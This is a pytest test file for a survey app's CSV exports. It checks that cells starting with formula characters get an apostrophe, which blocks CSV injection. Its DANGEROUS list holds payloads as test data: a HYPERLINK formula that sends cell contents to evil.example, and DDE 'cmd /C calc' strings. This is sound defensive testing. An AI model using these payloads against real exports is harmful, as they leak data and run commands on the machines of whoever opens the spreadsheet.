"""No CSV the system writes can make a spreadsheet run a formula (OWASP: CSV injection).

Text starting with =, +, -, @, a tab or a carriage return gets a leading
apostrophe, in every export, comma or Excel (semicolon) mode; numbers stay numbers.
"""
import csv
import io

import pytest

from survey.audit.services import record_change
from survey.csv_export import neutralise
from survey.extensions import db
from survey.participants.services import get_participant
from survey.responses.models import Response

from .conftest import ParticipantBrowser

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def table(data, excel=False):
    text = data.decode("utf-8-sig" if excel else "utf-8")
    return list(csv.DictReader(io.StringIO(text), delimiter=";" if excel else ","))


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", DANGEROUS + ["'=1+1", "'quoted'", "-5", "plain"])
def test_dropping_one_leading_apostrophe_gives_the_value_back(value):
    written = neutralise(value)
    assert (written[1:] if written.startswith("'") else written) == value


@pytest.mark.parametrize("value", [
    "Rettet efter telefonsamtale", "", None, 3, -3, 48.75, -0.5, "-5", "-2.5", "12",
    "2026-11-29T10:00:00+00:00", "a=b", "P001",
])
def test_everything_else_is_left_as_it_is(value):
    # "-5" and "-2.5" are plain numbers: a spreadsheet reads them as such, no formula.
    assert neutralise(value) == value


def corrections_with_dangerous_values(app, make_participant):
    make_participant("P001")
    with app.app_context():
        participant_id = get_participant("P001").id
        for value in DANGEROUS:
            record_change("staff:1", "correct", "answer", 1, field="xq1", old="-5", new=value,
                          reason=value, participant_id=participant_id)
        db.session.commit()


def assert_neutralised(rows, *columns):
    values = [(row[c]) for row in rows for c in columns]
    assert values == ["'" + v for v in DANGEROUS for _ in columns]


@pytest.mark.parametrize("excel", [False, True])
def test_audit_trail_download(app, client, make_participant, staff_login, excel):
    corrections_with_dangerous_values(app, make_participant)
    staff_login.as_role("coordinator")
    download = client.get("/staff/audit/export.csv?participant=P001" + ("&excel=1" * excel))
    rows = table(download.data, excel)
    assert_neutralised(rows, "new_value", "reason")
    assert {row["old_value"] for row in rows} == {"-5"}  # a number stays a number


@pytest.mark.parametrize("excel", [False, True])
def test_audit_trail_on_the_command_line(app, runner, make_participant, tmp_path, excel):
    corrections_with_dangerous_values(app, make_participant)
    output = tmp_path / "trail.csv"
    result = runner.invoke(args=["audit", "export", "--output", str(output)]
                           + ["--excel"] * excel)
    assert result.exit_code == 0, result.output
    assert_neutralised(table(output.read_bytes(), excel), "new_value", "reason")
    stdout = runner.invoke(args=["audit", "export", "--participant", "P001"])
    assert_neutralised(table(stdout.stdout_bytes), "new_value", "reason")


@pytest.mark.parametrize("excel", [False, True])
def test_access_report(app, client, make_participant, make_staff, staff_login, excel):
    from survey.audit.models import AccessRecord
    from survey.staff.services import find_staff_user

    make_participant("P001")
    # A valid e-mail address may start with = or +; so could a purpose some day.
    reader = make_staff("data_entry", email="=1+2@example.dk")
    with app.app_context():
        db.session.add(AccessRecord(staff_user_id=find_staff_user(reader).id,
                                    participant_id=get_participant("P001").id,
                                    purpose="@SUM(1)"))
        db.session.commit()
    staff_login.as_role("coordinator")
    download = client.get("/staff/participants/P001/access.csv" + ("?excel=1" * excel))
    rows = [row for row in table(download.data, excel) if row["purpose"] != "participant page"]
    assert [(row["staff_email"], row["purpose"]) for row in rows] == [
        ("'=1+2@example.dk", "'@SUM(1)")]


@pytest.mark.parametrize("excel", [False, True])
def test_response_export(app, runner, make_invitation, tmp_path, excel):
    browser = ParticipantBrowser(app.test_client())
    browser.open(make_invitation())
    browser.answer_all({"xq": [3, 5, 0, 10, 7, 8, 2, 4], "vas": [10] * 8})
    assert browser.submit().status_code == 302
    with app.app_context():
        # Text from outside the code (here a site's instrument file) is neutralised too.
        response = db.session.execute(
            db.select(Response).where(Response.instrument_code == "xq")).scalar_one()
        response.instrument_version = "=1+1"
        db.session.commit()
    output = tmp_path / "responses.csv"
    result = runner.invoke(args=["responses", "export", "--output", str(output)]
                           + ["--excel"] * excel)
    assert result.exit_code == 0, result.output
    xq = next(row for row in table(output.read_bytes(), excel) if row["instrument"] == "xq")
    assert xq["instrument_version"] == "'=1+1"
    # --excel writes a decimal comma in decimal columns (issue 11), the plain export a dot.
    total = "48,75" if excel else "48.75"
    assert (xq["xq1"], xq["xq_total"], xq["xq_total_prorated"]) == ("3", total, "0")
